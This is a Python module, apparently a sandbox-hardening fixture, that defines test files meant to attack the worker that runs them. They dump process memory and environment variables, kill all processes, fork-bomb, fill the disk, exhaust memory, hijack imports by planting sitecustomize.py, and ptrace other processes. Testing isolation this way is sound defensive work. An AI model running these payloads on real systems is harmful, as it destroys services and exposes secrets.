"""Suites that attack the worker they run in; each is the text of one test file."""

_LOOP = "\n\ndef test_attack():\n    attack()\n"

PROGRAMS = {
    "reads-the-worker": (
        "import os\n\ndef attack():\n"
        "    for pid in filter(str.isdigit, os.listdir('/proc')):\n"
        "        for name in ('environ', 'mem', 'maps', 'fd'):\n"
        "            try: print(open(f'/proc/{pid}/{name}', 'rb').read(100_000))\n"
        "            except OSError: pass\n    print(dict(os.environ))\n" + _LOOP
    ),
    "asks-the-runtime-api": (
        "import os, socket\n\ndef attack():\n"
        "    ports = [int(line.split()[1].rpartition(':')[2], 16) for line in open('/proc/net/tcp').readlines()[1:]]\n"
        "    for port in set(ports):\n"
        "        try:\n"
        "            with socket.create_connection(('127.0.0.1', port), 0.2) as there:\n"
        "                there.sendall(b'POST /2018-06-01/runtime/init/error HTTP/1.0\\r\\n\\r\\n')\n"
        "        except OSError: pass\n" + _LOOP
    ),
    "kills-everything": "import os\n\ndef attack():\n    os.kill(-1, 9)\n" + _LOOP,
    "kills-its-parents": (
        "import os\n\ndef attack():\n"
        "    for pid in range(1, 40):\n"
        "        try: os.kill(pid, 9)\n        except OSError: pass\n    os.kill(os.getppid(), 9)\n"
        + _LOOP
    ),
    "forks-without-end": (
        "import os\n\ndef attack():\n    while True:\n"
        "        try: os.fork()\n        except OSError: pass\n" + _LOOP
    ),
    "fills-the-disk": (
        "import os\n\ndef attack():\n    number = 0\n    while number < 2000:\n"
        "        open(f'/tmp/full-{number}', 'wb').write(b'x' * 40_000_000)\n        number += 1\n"
        + _LOOP
    ),
    "plants-modules": (
        "import os\n\ndef attack():\n"
        "    for folder in ('/tmp', os.path.expanduser('~'), '/var/task', '/opt/python'):\n"
        "        for name in ('sitecustomize.py', 'usercustomize.py', 'pytest.py', 'swarm_tools.py', 'json.py'):\n"
        "            try: open(os.path.join(folder, name), 'w').write('raise SystemExit(3)')\n"
        "            except OSError: pass\n" + _LOOP
    ),
    "stays-behind": (
        "import os, time\n\ndef attack():\n    if os.fork() == 0:\n        os.setsid()\n"
        "        if os.fork() == 0:\n            time.sleep(600)\n        os._exit(0)\n"
        + _LOOP
    ),
    "eats-memory": "def attack():\n    data = [bytearray(1 << 26) for _ in range(10_000)]\n    print(len(data))\n"
    + _LOOP,
    "never-ends": "import signal\n\ndef attack():\n    signal.alarm(0)\n    while True: pass\n"
    + _LOOP,
    "traces-the-worker": (
        "import ctypes, os\n\ndef attack():\n    libc = ctypes.CDLL(None)\n"
        "    for pid in filter(str.isdigit, os.listdir('/proc')):\n"
        "        libc.ptrace(16, int(pid), 0, 0)\n" + _LOOP
    ),
    "floods-its-output": "def attack():\n    for _ in range(2000): print('x' * 100_000)\n"
    + _LOOP,
}

# What is run every time: one of each kind of harm.
SAMPLE = ["reads-the-worker", "kills-everything", "fills-the-disk", "plants-modules"]
